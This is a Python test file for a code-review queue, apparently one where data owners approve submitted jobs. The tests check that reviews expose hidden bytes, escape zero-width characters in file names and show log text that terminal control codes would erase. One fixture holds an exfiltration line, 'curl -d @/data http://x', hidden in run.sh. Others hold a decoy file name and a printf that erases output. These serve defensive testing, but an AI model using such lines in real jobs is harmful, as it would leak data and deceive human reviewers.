"""Issue 9, items 7 and 8: the review shows every byte that can run, every
view names what it leaves out, and owner-facing log views escape what a
renderer would apply (\\r, \\b, ESC)."""
import contextlib
import io
import os

import syft_code_queue as q
from syft_code_queue import _actions, _html
from helpers import DO, Workspace, make_code
from test_html import scan


def printed(fn, *a, **kw):
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        fn(*a, **kw)
    return buf.getvalue()


def html_text(markup):
    return "".join(scan(markup).text)


class ReviewEveryByte(Workspace):
    def job(self, name, body, extra=None, tail=b""):
        code = make_code(os.path.join(self.tmp, name), body=body, extra=extra)
        if tail:
            with open(os.path.join(code, "run.sh"), "ab") as f:
                f.write(tail)
        return q.submit_job(DO, code, name)

    def test_latin1_byte_in_run_sh_is_shown_with_a_loud_warning(self):
        # bash runs this run.sh; one Latin-1 byte used to hide all of it
        j = self.job("latin1", "echo caf\xe9", tail=b"curl -d @/data http://x # caf\xe9\n")
        view = self.owner.review_job(j.uid)
        text = view.text()
        self.assertNotIn("Binary file", text)
        self.assertIn("curl -d @/data http://x # caf\u27e80xE9\u27e9", text)
        self.assertIn("!!! WARNING: run.sh holds 1 byte that is not UTF-8", text)
        markup = view._repr_html_()
        self.assertIn("curl -d @/data http://x # caf\u27e80xE9\u27e9", html_text(markup))
        self.assertIn("scq-loud", markup)
        self.assertIn("caf\\xe9", self.owner.read_job_file(j.uid, "run.sh"))
        self.assertEqual(self.owner.read_job_file_bytes(j.uid, "run.sh"),
                         b"#!/bin/bash\necho caf\xc3\xa9\ncurl -d @/data http://x # caf\xe9\n")
        self.assertIn("caf\u27e80xE9\u27e9", printed(self.owner.inspect_job, j.uid))

    def test_nul_after_line_one_is_shown(self):
        j = self.job("nul", "echo ok", tail=b"\x00\necho after-the-nul\n")
        text = self.owner.review_job(j.uid).text()
        self.assertIn("\u27e8NUL\u27e9\necho after-the-nul", text)
        self.assertIn("!!! WARNING: run.sh holds 1 NUL byte", text)

    def test_files_run_sh_runs_are_loud_others_quiet_all_escaped(self):
        j = self.job("helper", "bash lib/helper.sh", extra={
            "lib/helper.sh": b"echo \xff leak\n", "data.bin": b"\x00\x01\xfe",
            "tool": b"#!/usr/bin/python3\nprint('\xff')\n"})
        text = self.owner.review_job(j.uid).text()
        self.assertIn("!!! WARNING: lib/helper.sh holds 1 byte that is not UTF-8", text)
        self.assertIn("!!! WARNING: tool holds", text)  # a "#!" line: it can run
        self.assertIn("Note: data.bin holds 1 NUL byte and 1 byte that is not UTF-8", text)
        self.assertNotIn("!!! WARNING: data.bin", text)
        self.assertIn("echo \u27e80xFF\u27e9 leak", text)
        self.assertIn("\u27e8NUL\u27e9\u27e8SOH\u27e9\u27e80xFE\u27e9", text)
        self.assertIn("\u27e8NUL\u27e9\u27e8SOH\u27e9\u27e80xFE\u27e9", html_text(self.owner.review_job(j.uid)._repr_html_()))

    def test_every_view_names_the_files_it_leaves_out(self):
        extra = {"f%d.py" % i: "".join("line_%d_%d = 1\n" % (i, n) for n in range(30))
                 for i in range(8)}
        j = self.job("many", "python3 f0.py", extra=extra)
        lit = '"%s"' % j.uid
        text = self.owner.review_job(j.uid).text()
        # five other files, heads only; the three left out by name, with the way to see them
        self.assertIn("Not shown here: 3 files: f5.py, f6.py, f7.py", text)
        self.assertIn("q.inspect_job(%s, full=True)" % lit, text)
        self.assertIn('q.inspect_job(%s, file="f0.py") shows it whole' % lit, text)
        self.assertNotIn("line_0_29", text)
        full = printed(self.owner.inspect_job, j.uid, full=True)
        for i in range(8):
            self.assertIn("line_%d_29 = 1" % i, full)
        self.assertNotIn("Not shown here", full)
        one = self.owner.review_job(j.uid, file="f7.py")
        self.assertIn("line_7_29 = 1", one.text())
        self.assertIn("Not shown here: 8 files: run.sh, f0.py", one.text())
        m = html_text(one._repr_html_())
        self.assertIn("line_7_29 = 1", m)
        self.assertNotIn("line_6_0", m)
        self.assertIn("Not shown here: 8 files", m)
        self.assertIn("line_3_29", html_text(self.owner.get_job(j.uid).review(full=True)
                                             ._repr_html_()))
        with self.assertRaises(q.JobNotFound):
            self.owner.review_job(j.uid, file="nope.py")

    def test_large_files_are_read_whole_and_cuts_are_named(self):
        big = "".join("row %07d\n" % i for i in range(150000))  # 1.8 MB
        j = self.job("big", "python3 big.py", extra={"big.py": big})
        self.assertEqual(self.owner.read_job_file(j.uid, "big.py"), big)
        from syft_code_queue import _review
        old = _review._EMBED_CAP
        _review._EMBED_CAP = 1000
        try:
            m = html_text(self.owner.review_job(j.uid)._repr_html_())
            full = html_text(self.owner.review_job(j.uid, full=True)._repr_html_())
        finally:
            _review._EMBED_CAP = old
        self.assertIn("Cut in this view: 1 file: big.py", m)
        self.assertIn('file="big.py") shows it whole', m)
        self.assertIn("row 0149999", full)

    def test_format_characters_in_file_names_are_escaped(self):
        j = self.job("zw", "echo real", extra={"run\u200b.sh": "echo decoy\n"})
        text = self.owner.review_job(j.uid).text()
        self.assertIn("run\u27e8U+200B\u27e9.sh", text)
        self.assertIn("Trojan Source", text)
        self.assertNotIn("\u200b", text)
        m = self.owner.review_job(j.uid, full=True)._repr_html_()
        self.assertIn("run\u27e8U+200B\u27e9.sh", m)
        self.assertNotIn("\u200b", m)
        left = self.owner.review_job(j.uid, file="run.sh")
        self.assertIn("Not shown here: 1 file: run\u27e8U+200B\u27e9.sh", left.text())
        # the widget's Review button: the review's text, marked once (no ⟨U+27E8⟩)
        box = type("Box", (), {"value": ""})()
        _actions._say(box, _actions._act(self.owner.get_job(j.uid), "review", None, None))
        self.assertIn("run\u27e8U+200B\u27e9.sh", box.value)
        self.assertNotIn("U+27E8", box.value)

    def test_output_viewer_shows_binary_outputs_escaped(self):
        j = self.job("outbin", "printf 'ab\\377\\000cd' > \"$OUTPUT_DIR/r.bin\"")
        self.owner.approve(j.uid)
        self.owner.run_jobs()
        job = self.owner.get_job(j.uid)
        self.assertEqual(job.read_output_file_bytes("r.bin"), b"ab\xff\x00cd")
        self.assertEqual(job.read_output_file("r.bin"), "ab\\xff\x00cd")
        m = html_text(job.output_viewer._repr_html_())
        self.assertIn("ab\u27e80xFF\u27e9\u27e8NUL\u27e9cd", m)
        self.assertIn("Note: r.bin holds 1 NUL byte and 1 byte that is not UTF-8", m)


ERASE = "printf 'secret-row\\r          \\r'; printf 'abc\\b\\b\\bxyz\\n'; printf 'E\\033[2K\\377\\n'"


class LogViewsEscape(Workspace):
    def test_escape_log(self):
        # the markers of `scq logs` (the library's escaper); newline and tab kept
        self.assertEqual(q.escape_log("secret-row\r          \r\n\tx"),
                         "secret-row\u27e8CR\u27e9          \u27e8CR\u27e9\n\tx")
        self.assertEqual(q.escape_log(b"a\bb\x1b[2Kc\x7f\xc2\x9b\xff\xe2\x80\x8b\n"),
                         "a\u27e8BS\u27e9b\u27e8ESC\u27e9[2Kc\u27e8DEL\u27e9\u27e8U+009B\u27e9"
                         "\u27e80xFF\u27e9\u27e8U+200B\u27e9\n")
        self.assertEqual(q.escape_log(None), "")
        big = b"\xe2\x9f\xa8" * 400000 + b"\xff"  # across the 1 MiB pieces: no false 0xNN
        self.assertEqual(q.escape_log(big), "\u27e8U+27E8\u27e9" * 400000 + "\u27e80xFF\u27e9")

    def ran(self):
        code = make_code(os.path.join(self.tmp, "erase"), body=ERASE)
        j = q.submit_job(DO, code, "erase")
        self.owner.approve(j.uid)
        self.owner.run_jobs()
        return self.owner.get_job(j.uid)

    def test_show_logs_keeps_erased_rows_visible(self):
        job = self.ran()
        raw = job.get_logs()  # stays raw (documented)
        self.assertIn("secret-row\r          \r", raw)
        out = printed(job.show_logs)
        self.assertIn("secret-row\u27e8CR\u27e9          \u27e8CR\u27e9abc\u27e8BS\u27e9\u27e8BS\u27e9"
                      "\u27e8BS\u27e9xyz", out)
        self.assertIn("E\u27e8ESC\u27e9[2K\u27e80xFF\u27e9", out)
        for c in "\r\b\x1b":
            self.assertNotIn(c, out)
        self.assertEqual(printed(q.show_job_logs, job.uid), out)

    def test_logs_button_and_widget_show_the_escaped_log(self):
        job = self.ran()
        sn = _html.snippet(job.uid, "logs")
        self.assertEqual(sn, 'q.get_job("%s").show_logs()' % job.uid)
        self.assertNotIn("get_logs", _html._ACTIONS_JS)
        self.assertIn("show_logs()", _html._ACTIONS_JS)
        # the snippet, run as the page runs it, prints the escaped log
        out = printed(exec, sn, {"q": self.owner})
        self.assertIn("secret-row\u27e8CR\u27e9", out)
        # the widget's Logs button: its status line shows the escaped log
        box = type("Box", (), {"value": ""})()
        _actions._say(box, _actions._act(self.owner.get_job(job.uid), "logs", None, None))
        self.assertIn("secret-row\u27e8CR\u27e9          \u27e8CR\u27e9abc\u27e8BS\u27e9", box.value)
        self.assertIn("E\u27e8ESC\u27e9[2K\u27e80xFF\u27e9", box.value)  # the byte, not U+FFFD
        self.assertNotIn("\r", box.value)
